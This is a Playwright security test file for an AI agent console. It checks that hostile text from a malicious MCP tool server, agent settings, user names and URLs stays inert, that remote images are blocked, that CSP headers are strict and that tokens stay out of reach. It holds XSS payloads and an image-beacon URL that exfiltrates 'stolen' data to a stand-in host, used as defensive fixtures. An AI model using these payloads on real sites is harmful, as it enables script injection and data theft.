import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Browser, Page, Request } from 'playwright-core';
import { type RunningToolServer, startToolServer } from '../../examples/tool-servers/tool-server.ts';
import { startWorld, type World } from '../e2e/world.ts';
import { ask, launch, signInByLink, type Visitor, visit, withoutChromium } from './browser.ts';

const HOSTILE = [
  '<img src=x onerror="window.hacked=1">',
  '<svg onload="window.hacked=1"><script>window.hacked=1</script></svg>',
  '[click me](javascript:window.hacked=1)',
  '[data](data:text/html,<script>window.hacked=1</script>)',
  '[a page](https://elsewhere.example/path?q=1)',
  '![pixel](https://elsewhere.example/pixel.png?stolen=data)',
  '![inline](data:image/svg+xml;base64,PHN2Zy8+)',
  '<iframe src="https://elsewhere.example/"></iframe>',
].join('\n\n');
interface Found {
  local: string;
  session: string;
  cookie: string;
  history: string;
  databases: number;
  caches: number;
  html: string;
}
const NAME = '<img src=x onerror="window.hacked=1">Eve';
const CONSOLE_PATHS = ['/', '/ui', '/ui/', '/ui/agents', '/ui/chat/assistant/none', '/ui/theme.js', '/login'];

describe('hostile text, and what the browser is allowed to do', { skip: withoutChromium }, () => {
  let world: World;
  let evil: RunningToolServer;
  let browser: Browser;
  let eve: Visitor;
  const requests: Request[] = [];
  before(async () => {
    world = await startWorld();
    evil = await startToolServer({
      name: 'evil',
      issuer: world.url,
      port: 0,
      register: (server) =>
        server.registerTool('read_mail', { description: `Reads mail ${HOSTILE}` }, async () => ({
          content: [{ type: 'text', text: HOSTILE }],
        })),
    });
    await world.admin('POST', '/principals', { subject: 'eve', role: 'REGULAR', name: NAME });
    await world.applied(hostileResources(world.url, evil.url));
    await world.admin('POST', '/mcp-servers/evil/actions/test');
    browser = await launch(world);
    eve = await visit(browser);
    eve.page.on('request', (request) => requests.push(request));
    await signInByLink(world, eve, 'eve');
  });
  after(async () => {
    await browser?.close();
    await evil?.close();
    await world?.[Symbol.asyncDispose]();
  });

  const untouched = async (page: Page) => {
    assert.equal(await page.evaluate('window.hacked'), undefined);
    assert.equal(await page.locator('iframe, script:not([src]), [onerror], [onload], [style*="url("]').count(), 0);
    const images = await page.locator('img').count();
    assert.equal(images, 0);
  };

  test('C1 markup and script addresses in tool results, model text, names and descriptions are inert and visible', async () => {
    const { page } = eve;
    await page.goto(`${world.url}/ui/chat/postman`);
    await ask(page, 'Read my mail');
    await page.getByText(/ tokens$/).waitFor();
    const card = page.getByRole('article', { name: 'Tool call evil.read_mail' });
    await card.getByText('Arguments and result').click();
    const result = await card.getByRole('region', { name: 'Result' }).innerText();
    for (const line of HOSTILE.split('\n\n')) assert.ok(result.includes(line), line);
    const answer = page.locator('.markdown').last();
    assert.match(await answer.innerText(), /<img src=x onerror=/);
    assert.equal(await answer.locator('a[href^="javascript:"], a[href^="data:"]').count(), 0);
    await answer.getByText('click me').click();
    await untouched(page);
    for (const path of [
      '/ui/agents',
      '/ui/agents/postman',
      '/ui/agents/postman?tab=tools',
      '/ui/agents/postman?tab=yaml',
      '/ui/exchanges',
    ]) {
      await page.goto(`${world.url}${path}`);
      await page
        .getByRole('main')
        .getByText(/postman/)
        .filter({ visible: true })
        .first()
        .waitFor();
      await untouched(page);
    }
    await page.getByRole('button', { name: /^Account of <img/ }).waitFor();
    assert.deepEqual(eve.complaints, [], 'nothing even tried to break the policy');
  });

  test('C1 a hostile address of the console is text too', async () => {
    const { page } = eve;
    await page.goto(`${world.url}/ui/agents/%3Cimg%20src=x%20onerror=hacked=1%3E?tab=%22%3E%3Cscript%3E`);
    await page.getByRole('alert').waitFor();
    await untouched(page);
    await page.goto(
      `${world.url}/ui/exchanges?server=%3Cimg%20src=x%20onerror=hacked=1%3E&id=%3Csvg%20onload=hacked=1%3E`,
    );
    await page.getByText('Nothing matches these filters').waitFor();
    await untouched(page);
  });

  test('C2 a markdown image is not loaded, a link shows its host and carries no referrer', async () => {
    const { page } = eve;
    await page.goto(`${world.url}/ui/chat`);
    await page
      .getByRole('complementary')
      .getByRole('link', { name: /Read my mail/ })
      .click();
    const answer = page.locator('.markdown').last();
    await answer.getByText('Image not loaded: pixel (elsewhere.example)').waitFor();
    const link = answer.getByRole('link', { name: /a page/ });
    assert.match(await link.innerText(), /elsewhere\.example/);
    assert.match((await link.getAttribute('rel')) ?? '', /noreferrer/);
    const strange = requests.map((request) => new URL(request.url())).filter(({ origin }) => origin !== world.url);
    assert.deepEqual(strange.map(String), [], 'the console speaks to its own server only');
  });

  test('C4 every answer carries the policy, and no inline script, style or frame is allowed', async () => {
    for (const path of CONSOLE_PATHS) {
      const { headers } = await fetch(`${world.url}${path}`, { redirect: 'manual' });
      const policy = headers.get('content-security-policy') ?? '';
      assert.match(policy, /default-src 'none'/, path);
      assert.match(policy, /frame-ancestors 'none'/, path);
      assert.doesNotMatch(policy, /unsafe|\*|https?:/, path);
      assert.equal(headers.get('x-content-type-options'), 'nosniff', path);
      assert.equal(headers.get('referrer-policy'), 'no-referrer', path);
    }
    for (const path of ['/api/me', '/api/agents', '/api/healthcheck', '/api/nothing']) {
      const { headers } = await fetch(`${world.url}${path}`);
      assert.equal(headers.get('cache-control'), 'no-store', path);
      assert.match(headers.get('content-security-policy') ?? '', /default-src 'none'; frame-ancestors 'none'/, path);
    }
    const { page } = eve;
    await page.goto(`${world.url}/ui/agents`);
    const ran = await page.evaluate(`{
      const script = document.createElement('script');
      script.textContent = 'window.hacked = 1';
      document.body.append(script);
      window.hacked;
    }`);
    assert.equal(ran, undefined, 'the policy is in force');
    eve.complaints.length = 0;
  });

  test('C6 no token in address, storage, history or referrer, and none that a script could read', async () => {
    const { page, context } = eve;
    await page.goto(`${world.url}/ui/exchanges`);
    await page
      .getByRole('list', { name: /^Exchanges/ })
      .getByRole('link')
      .first()
      .click();
    await page.getByRole('dialog').waitFor();
    const found = await page.evaluate<Found>(`(async () => ({
      local: JSON.stringify(localStorage),
      session: JSON.stringify(sessionStorage),
      cookie: document.cookie,
      history: JSON.stringify(history.state),
      databases: (await indexedDB.databases()).length,
      caches: (await caches.keys()).length,
      html: document.documentElement.outerHTML,
    }))()`);
    const cookies = (await context.cookies()).filter(({ httpOnly }) => httpOnly);
    assert.ok(cookies.length > 0);
    assert.equal(found.cookie, '');
    assert.equal(found.databases + found.caches, 0);
    const secrets = [/eyJ[\w-]{10,}\.[\w-]+\.[\w-]+/, ...cookies.map(({ value }) => new RegExp(literally(value)))];
    const places = [found.local, found.session, found.history, found.html, ...requests.map((request) => request.url())];
    for (const secret of secrets)
      for (const place of places) assert.ok(!secret.test(place), `${secret} in ${place.slice(0, 200)}`);
    for (const request of requests) {
      assert.doesNotMatch(request.url(), /[?&](ticket|token|access[-_]token)=/);
      assert.equal((await request.allHeaders()).referer || undefined, undefined, request.url());
    }
    for (const cookie of await context.cookies()) assert.notEqual(cookie.sameSite, 'None');
  });
});

const literally = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

function hostileResources(issuer: string, url: string): string {
  return `
apiVersion: onbehalf.dev/v1alpha1
kind: RemoteMCPServer
metadata: {name: evil}
spec:
  url: ${url}
  auth: {mode: Exchange, tokenServiceRef: {name: onbehalf}, resourceFrom: ServerURL, scopes: [mail.read]}
---
apiVersion: onbehalf.dev/v1alpha1
kind: Agent
metadata: {name: postman}
spec:
  type: Declarative
  description: ${JSON.stringify(HOSTILE)}
  declarative:
    systemMessage: ${JSON.stringify(HOSTILE)}
    modelConfigRef: {name: default}
    tools: [{type: McpServer, mcpServer: {name: evil, toolNames: [read_mail]}}]
---
apiVersion: onbehalf.dev/v1alpha1
kind: Grant
metadata: {name: eve-runs-postman}
spec:
  to: {principal: {issuer: "${issuer}", subject: eve}}
  on: {kind: Agent, name: postman}
  verbs: [run]
`;
}
